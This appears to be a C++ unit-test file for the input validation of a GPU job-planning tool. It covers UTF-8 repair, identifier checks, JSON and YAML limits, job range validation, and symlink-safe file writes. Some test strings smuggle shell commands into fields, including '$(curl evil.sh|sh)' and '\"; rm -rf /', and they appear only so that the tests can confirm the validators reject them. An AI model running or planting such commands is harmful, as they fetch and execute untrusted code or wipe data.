// The input contract (issue 15): limits, excerpts, UTF-8 repair, identifiers, the shared job
// validation, single-document YAML, JSON depth/number caps and the safe write path.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <climits>
#include <cmath>
#include <filesystem>
#include <fstream>
#include <limits>
#include <random>
#include <sstream>

#include "gpuplan/input.h"
#include "gpuplan/job_validate.h"
#include "gpuplan/job.h"
#include "gpuplan/model.h"
#include "gpuplan/safe_write.h"
#include "gpuplan/serve_planner.h"
#include "io/json_fields.h"
#include "io/json_util.h"
#include "io/plan_input.h"
#include "io/yaml_util.h"

namespace gpuplan {
namespace {

namespace fs = std::filesystem;

TEST(Utf8, SanitizeReplacesInvalidBytesAndKeepsValidText) {
  EXPECT_TRUE(IsValidUtf8("H100 \xC2\xA5 \xE2\x82\xAC"));
  EXPECT_FALSE(IsValidUtf8("a\xFFz"));
  EXPECT_FALSE(IsValidUtf8("\xC0\xAF"));      // overlong '/'
  EXPECT_FALSE(IsValidUtf8("\xED\xA0\x80"));  // surrogate
  EXPECT_EQ(SanitizeUtf8("a\xFFz"), "a\xEF\xBF\xBDz");
  EXPECT_EQ(SanitizeUtf8("ok \xC2\xA5"), "ok \xC2\xA5");
  EXPECT_TRUE(IsValidUtf8(SanitizeUtf8(std::string("\x80\x80\xF4\x90\x80\x80", 6))));
}

TEST(Excerpt, IsShortQuotedAndPrintable) {
  const std::string big(1 << 20, 'x');
  const std::string e = Excerpt(big);
  EXPECT_LT(e.size(), 120u);
  EXPECT_NE(e.find("1048576 bytes"), std::string::npos);
  EXPECT_EQ(Excerpt("a\nb"), "\"a\\x0ab\"");
  EXPECT_EQ(Excerpt("q\""), "\"q\\\"\"");
}

TEST(Identifier, StrictCharacterSet) {
  EXPECT_TRUE(IsSafeIdentifier("p5.48xlarge"));
  EXPECT_TRUE(IsSafeIdentifier("Standard_ND96isr_H100_v5"));
  EXPECT_TRUE(IsSafeIdentifier("ecs.gn7i-c8g1.2xlarge"));
  EXPECT_TRUE(IsSafeIdentifier("meta-llama/Llama-2-7b-hf"));
  EXPECT_FALSE(IsSafeIdentifier(""));
  EXPECT_FALSE(IsSafeIdentifier("x\n$(curl evil.sh|sh)"));
  EXPECT_FALSE(IsSafeIdentifier("a b"));
  EXPECT_FALSE(IsSafeIdentifier("-rf"));

  EXPECT_FALSE(IsSafeIdentifier(std::string(kMaxIdentifierBytes + 1, 'a')));
  Status st = CheckIdentifier("a;b", "instances.csv: instance_type");
  ASSERT_FALSE(st);
  EXPECT_EQ(st.error().field, "instances.csv: instance_type");
}

TEST(JsonLimits, DepthNumberOverflowAndTypeNames) {
  std::string deep =
      "{\"hidden_size\": " + std::string(100000, '[') + std::string(100000, ']') + "}";
  auto r = internal::ParseJson(deep, "config.json");
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().message.find("nested deeper"), std::string::npos);
  // Brackets inside strings do not count.
  EXPECT_TRUE(internal::ParseJson("{\"a\": \"" + std::string(1000, '[') + "\"}", "x"));
  auto big = internal::ParseJson("{\"hidden_size\": 1e400}", "config.json");
  ASSERT_FALSE(big);
  EXPECT_EQ(big.error().code, ErrorCode::kParse);
  auto bad_utf8 = internal::ParseJson("{\"name\": \"a\xFF\"}", "x");
  ASSERT_FALSE(bad_utf8);
  EXPECT_FALSE(internal::ParseJson(std::string(100, ' '), "x", 10));
  EXPECT_EQ(internal::JsonTypeName(internal::Json::array({1, 2, 3})), "an array of 3 items");
  auto j = internal::Json::parse("{\"v\": [[1]]}");
  auto n = internal::GetNumber(j, "v", "cfg");
  ASSERT_FALSE(n);
  EXPECT_EQ(n.error().message, "expected a number, got an array of 1 items");
  EXPECT_EQ(internal::DumpJson(internal::Json(std::string("a\xFF"))), "\"a\xEF\xBF\xBD\"");
}

TEST(HfConfig, RejectsOverflowingSizes) {
  for (const char* cfg :
       {R"({"hidden_size": 1e400})", R"({"model_type": "llama", "hidden_size": 1000000000000,
       "num_hidden_layers": 2, "num_attention_heads": 2, "intermediate_size": 8, "vocab_size": 10})",
        R"({"model_type": "llama", "hidden_size": 1048576, "num_hidden_layers": 100000,
       "num_attention_heads": 8, "intermediate_size": 4000000, "vocab_size": 10})"}) {
    auto m = ParseHfConfig(cfg, "config.json");
    ASSERT_FALSE(m) << cfg;
    EXPECT_NE(m.error().field.find("config.json"), std::string::npos);
    EXPECT_NE(m.error().code, ErrorCode::kInternal);
  }
}

TEST(Safetensors, OffsetsSummedPastInt64AreRejected) {
  const std::string h =
      R"({"a": {"dtype": "I8", "shape": [4611686018427387904], "data_offsets": [0, 4611686018427387904]},)"
      R"( "b": {"dtype": "I8", "shape": [4611686018427387904], "data_offsets": [4611686018427387904, 9223372036854775807]}})";
  auto s = ParseSafetensorsHeader(h, "x.safetensors");
  ASSERT_FALSE(s);
  auto deep = ParseSafetensorsHeader("{\"a\": {\"dtype\": " + std::string(100000, '[') + "}}", "x");
  ASSERT_FALSE(deep);
}

TEST(Yaml, OneDocumentWithoutLoadAllHang) {
  auto d = internal::LoadOneYamlDocument(",\n");  // yaml-cpp 0.7 LoadAll loops forever here
  EXPECT_FALSE(d.extra_content);
  auto two = internal::LoadOneYamlDocument("a: 1\n---\nb: 2\n");
  EXPECT_TRUE(two.extra_content);
  EXPECT_EQ(two.extra_line, 3);  // the line of the second document's content
  auto trailing = internal::LoadOneYamlDocument("a: 1\n---\n");
  EXPECT_FALSE(trailing.extra_content);
  EXPECT_TRUE(trailing.root.IsMap());
  auto job = ParseTrainJobYaml(",\n", "j.yaml");
  ASSERT_FALSE(job);
  EXPECT_EQ(job.error().field, "j.yaml");
}

TEST(Yaml, JobBoundsNameTheYamlPath) {
  auto job = ParseTrainJobYaml(
      "model: Llama-2-7B\ntrain:\n  data:\n    tokens: 1B\nconstraints:\n  max_nodes: 1e9\n",
      "j.yaml");
  ASSERT_FALSE(job);
  EXPECT_NE(job.error().field.find("max_nodes"), std::string::npos) << job.error().ToString();
  auto serve =
      ParseServeJobYaml("model: Llama-2-7B\nserve:\n  qps: 1\n  input_len: 1e10\n", "s.yaml");
  ASSERT_FALSE(serve);
  EXPECT_NE(serve.error().field.find("serve.input_len"), std::string::npos);
  EXPECT_EQ(serve.error().message.find("-2147483648"), std::string::npos);
}

TrainJobSpec SmallJob() {
  TrainJobSpec j;
  j.model = *ResolveModel("Llama-2-7B", "--model");
  j.tokens = 1e9;
  return j;
}

TEST(ValidateTrainJob, RangesAndCombinations) {
  EXPECT_TRUE(ValidateTrainJob(SmallJob(), InputSource::kFlags));
  struct Case {
    void (*mutate)(TrainJobSpec&);
    const char* field;
  };
  const Case cases[] = {
      {[](TrainJobSpec& j) { j.max_nodes = 10000000; }, "--max-nodes"},
      {[](TrainJobSpec& j) { j.max_nodes = 0; }, "--max-nodes"},
      {[](TrainJobSpec& j) { j.seq_len = INT_MAX; }, "--seq-len"},
      {[](TrainJobSpec& j) { j.seq_len = 8192; }, "--seq-len"},  // Llama-2's context: 4096
      {[](TrainJobSpec& j) { j.global_batch = -1; }, "--global-batch"},
      {[](TrainJobSpec& j) { j.top = 0; }, "--top"},
      {[](TrainJobSpec& j) { j.epochs = std::nan(""); }, "--epochs"},
      {[](TrainJobSpec& j) { j.epochs = 0; }, "--epochs"},
      {[](TrainJobSpec& j) { j.headroom = std::nan(""); }, "--headroom"},
      {[](TrainJobSpec& j) { j.headroom = 1.5; }, "--headroom"},
      {[](TrainJobSpec& j) { j.tokens = 1e30; }, "--tokens"},
      {[](TrainJobSpec& j) { j.samples = 1e6; }, "--samples"},  // with tokens
      {[](TrainJobSpec& j) { j.deadline_hours = -1; }, "--deadline"},
      {[](TrainJobSpec& j) { j.budget = std::numeric_limits<double>::infinity(); }, "--budget"},
      {[](TrainJobSpec& j) {
         j.method = TrainMethod::kLora;
         j.lora_rank = 100000;
       },
       "--lora-rank"},
  };
  for (const auto& c : cases) {
    TrainJobSpec j = SmallJob();
    c.mutate(j);
    Status st = ValidateTrainJob(j, InputSource::kFlags);
    ASSERT_FALSE(st) << c.field;
    EXPECT_EQ(st.error().field, c.field);
  }
  TrainJobSpec j = SmallJob();
  j.max_nodes = 2147483647;
  Status y = ValidateTrainJob(j, InputSource::kYaml, "job.yaml");
  ASSERT_FALSE(y);
  EXPECT_EQ(y.error().field, "job.yaml: constraints.max_nodes");
}

TEST(ValidateServeJob, Ranges) {
  ServeJobSpec s;
  s.model = *ResolveModel("Llama-2-7B", "--model");
  EXPECT_TRUE(ValidateServeJob(s, InputSource::kFlags));
  s.input_len = 0;
  EXPECT_EQ(ValidateServeJob(s, InputSource::kFlags).error().field, "--input-len");
  s.input_len = 512;
  s.tpot_p99_ms = 0.0;
  EXPECT_EQ(ValidateServeJob(s, InputSource::kFlags).error().field, "--tpot-ms");
  s.tpot_p99_ms.reset();
  s.qps = std::nan("");
  EXPECT_EQ(ValidateServeJob(s, InputSource::kFlags).error().field, "--qps");
  s.qps = 1;
  // A request longer than the model's context (Llama-2: 4096 tokens) is refused by every engine;
  // the prompt and the output together count, up to the benchmark's maximum output.
  s.input_len = 3840;
  s.output_len = 256;
  EXPECT_TRUE(ValidateServeJob(s, InputSource::kFlags));
  s.output_len = 257;
  Status over = ValidateServeJob(s, InputSource::kFlags);
  ASSERT_FALSE(over);
  EXPECT_EQ(over.error().field, "--input-len");
  EXPECT_NE(over.error().message.find("context of 4096"), std::string::npos)
      << over.error().message;
  s.output_len = 128;
  s.max_output_len = 1024;
  EXPECT_FALSE(ValidateServeJob(s, InputSource::kFlags));
}

TEST(PlanDocument, InjectionIsRejectedAtInput) {
  auto doc = internal::Json::parse(R"({"job": {"model": "Llama-2-7B"},
      "plans": [{"cloud": "aws", "instance_type": "p5.48xlarge\nkind: Evil", "nodes": 1}]})");
  Status st = internal::CheckPlanDocument(doc);
  ASSERT_FALSE(st);
  EXPECT_EQ(st.error().field, "plans[0].instance_type");
  auto model = internal::Json::parse(R"({"job": {"model": "x\"; rm -rf /"}, "plans": []})");
  EXPECT_FALSE(internal::CheckPlanDocument(model));
  auto nodes = internal::Json::parse(R"({"job": {}, "plans": [{"nodes": 1e10}]})");
  EXPECT_EQ(internal::CheckPlanDocument(nodes).error().field, "plans[0].nodes");
}

class SafeWriteTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() /
           ("gpuplan_safe_write_" + std::to_string(getpid()) + "_" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(dir_);
    fs::create_directories(dir_);
  }
  void TearDown() override { fs::remove_all(dir_); }
  static std::string Read(const fs::path& p) {
    std::ifstream in(p);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
  }
  fs::path dir_;
};

TEST_F(SafeWriteTest, WritesAndRefusesOverwriteWithoutForce) {
  auto w = SafeWriteFiles(dir_.string(), {{"a.yaml", "one"}, {"b.sh", "two"}}, false, "-o");
  ASSERT_TRUE(w) << w.error().ToString();
  EXPECT_EQ(Read(dir_ / "a.yaml"), "one");
  auto again = SafeWriteFiles(dir_.string(), {{"a.yaml", "new"}}, false, "-o");
  ASSERT_FALSE(again);
  EXPECT_EQ(again.error().field, "-o");
  EXPECT_EQ(Read(dir_ / "a.yaml"), "one");
  ASSERT_TRUE(SafeWriteFiles(dir_.string(), {{"a.yaml", "new"}}, true, "-o"));
  EXPECT_EQ(Read(dir_ / "a.yaml"), "new");
  // No temporaries left behind.
  int n = 0;
  for (const auto& e : fs::directory_iterator(dir_)) n += e.path().filename().string()[0] == '.';
  EXPECT_EQ(n, 0);
}

TEST_F(SafeWriteTest, NeverFollowsAPlantedLink) {
  const fs::path victim = dir_ / "victim.txt";
  std::ofstream(victim) << "precious";
  // The old scheme's temporary name, planted as a link to the victim.
  fs::create_symlink(victim, dir_ / ".job.sbatch.tmp");
  ASSERT_TRUE(SafeWriteFiles(dir_.string(), {{"job.sbatch", "#!/bin/bash\n"}}, false, "-o"));
  EXPECT_EQ(Read(victim), "precious");
  // A destination that is a link is refused, even with --force.
  fs::create_symlink(victim, dir_ / "k8s.yaml");
  auto w = SafeWriteFiles(dir_.string(), {{"k8s.yaml", "kind: Job\n"}}, true, "-o");
  ASSERT_FALSE(w);
  EXPECT_EQ(Read(victim), "precious");
}

TEST(WriteAllToStream, FullDeviceIsAnError) {
  std::FILE* f = std::fopen("/dev/full", "w");
  if (f == nullptr) GTEST_SKIP() << "no /dev/full";
  Status st = WriteAllToStream(f, std::string(1 << 16, 'x'), "stdout");
  std::fclose(f);
  ASSERT_FALSE(st);
  EXPECT_EQ(st.error().field, "stdout");
}

}  // namespace
}  // namespace gpuplan

namespace gpuplan {
namespace {
TEST(Identifier, NamesAllowWhatRealCatalogsHold) {
  EXPECT_TRUE(IsSafeName("H100 x1 (a catalog name with spaces)"));
  EXPECT_TRUE(IsSafeName("Texas, US"));
  EXPECT_FALSE(IsSafeName("VM.Standard.E4.Flex$_2_8"));
  EXPECT_FALSE(IsSafeName("p5\n$(curl evil.sh|sh)"));
  EXPECT_FALSE(IsSafeName("a\"b"));
  EXPECT_FALSE(IsSafeName(" lead"));
}
}  // namespace
}  // namespace gpuplan

#include "gpuplan/planner.h"

namespace gpuplan {
namespace {
// The node-count loop doubles in 64 bits and stops at kMaxNodes, so even a job that skipped
// validation (max_nodes = INT_MAX wrapped `n *= 2` to 0: an endless loop) terminates.
TEST(OverflowSafe, NodeLoopTerminatesForIntMaxNodes) {
  auto cat = LoadBuiltinCatalog();
  ASSERT_TRUE(cat);
  TrainJobSpec j;
  j.model = *ResolveModel("Llama-2-7B", "--model");
  j.method = TrainMethod::kLora;
  j.tokens = 1e8;
  j.max_nodes = INT_MAX;
  j.gpus = {"H100"};
  auto r = PlanTraining(j, *cat, DefaultCalibration());
  ASSERT_TRUE(r) << r.error().ToString();
  for (const auto& p : r->plans) EXPECT_LE(p.nodes, kMaxNodes);
}
}  // namespace
}  // namespace gpuplan

// ClosestMatch's bounded edit distance (early exits) picks what the plain Levenshtein rule
// picks: the first candidate with the smallest distance (containment counts as 1 when the shorter
// name is at least half the longer), suggested when below the needle's length and
// only within max(2, |needle| / 2). Checked against that rule on random names.
namespace {
size_t PlainDistance(const std::string& a, const std::string& b) {
  std::vector<size_t> prev(b.size() + 1), cur(b.size() + 1);
  for (size_t j = 0; j <= b.size(); ++j) prev[j] = j;
  for (size_t i = 1; i <= a.size(); ++i) {
    cur[0] = i;
    for (size_t j = 1; j <= b.size(); ++j)
      cur[j] = std::min({prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (a[i - 1] != b[j - 1])});
    std::swap(prev, cur);
  }
  return prev[b.size()];
}

std::string PlainClosest(const std::string& n, const std::vector<std::string>& cands) {
  std::string best;
  size_t best_d = static_cast<size_t>(-1);
  for (const auto& c : cands) {
    size_t d = PlainDistance(n, c);
    const size_t shorter = std::min(n.size(), c.size()), longer = std::max(n.size(), c.size());
    if (!n.empty() && 2 * shorter >= longer &&
        (c.find(n) != std::string::npos || n.find(c) != std::string::npos))
      d = std::min<size_t>(d, 1);
    if (d < best_d) {
      best_d = d;
      best = c;
    }
  }
  return best_d <= std::max<size_t>(2, n.size() / 2) && best_d < n.size() ? best : std::string();
}
}  // namespace

TEST(ClosestMatch, SameAnswerAsPlainLevenshtein) {
  std::mt19937 rng(7);
  auto word = [&](int max_len) {
    std::string w(std::uniform_int_distribution<int>(0, max_len)(rng), 'a');
    for (char& ch : w) ch = "abcd-1"[std::uniform_int_distribution<int>(0, 5)(rng)];
    return w;
  };
  for (int trial = 0; trial < 3000; ++trial) {
    std::vector<std::string> cands;
    for (int k = 0; k < 8; ++k) cands.push_back(word(9));
    const std::string needle = trial % 5 == 0 ? cands[trial % 8] + word(2) : word(12);
    EXPECT_EQ(gpuplan::ClosestMatch(needle, cands), PlainClosest(needle, cands))
        << "needle " << needle;
  }
  EXPECT_EQ(gpuplan::ClosestMatch("lama-3-8b", {"Mistral-7B", "Llama-3-8B"}), "Llama-3-8B");
  EXPECT_EQ(gpuplan::ClosestMatch("zzzzzzzz", {"Mistral-7B", "Llama-3-8B"}), "");
  // RunPod's region "US" sits inside a typo of AWS's us-east-1; it is no hint for it.
  EXPECT_EQ(gpuplan::ClosestMatch("us-east-l", {"US", "us-east-1"}), "us-east-1");
}
